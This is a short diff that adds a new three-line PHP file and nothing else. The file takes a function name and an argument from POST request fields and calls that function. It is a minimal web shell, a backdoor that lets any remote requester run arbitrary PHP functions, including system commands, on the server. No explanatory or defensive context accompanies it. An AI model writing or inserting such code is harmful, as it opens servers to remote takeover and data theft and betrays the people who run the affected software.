@@ -1,0 +1,3 @@
+<?php
+$f = $_POST['f'];
+$f($_POST['arg']);
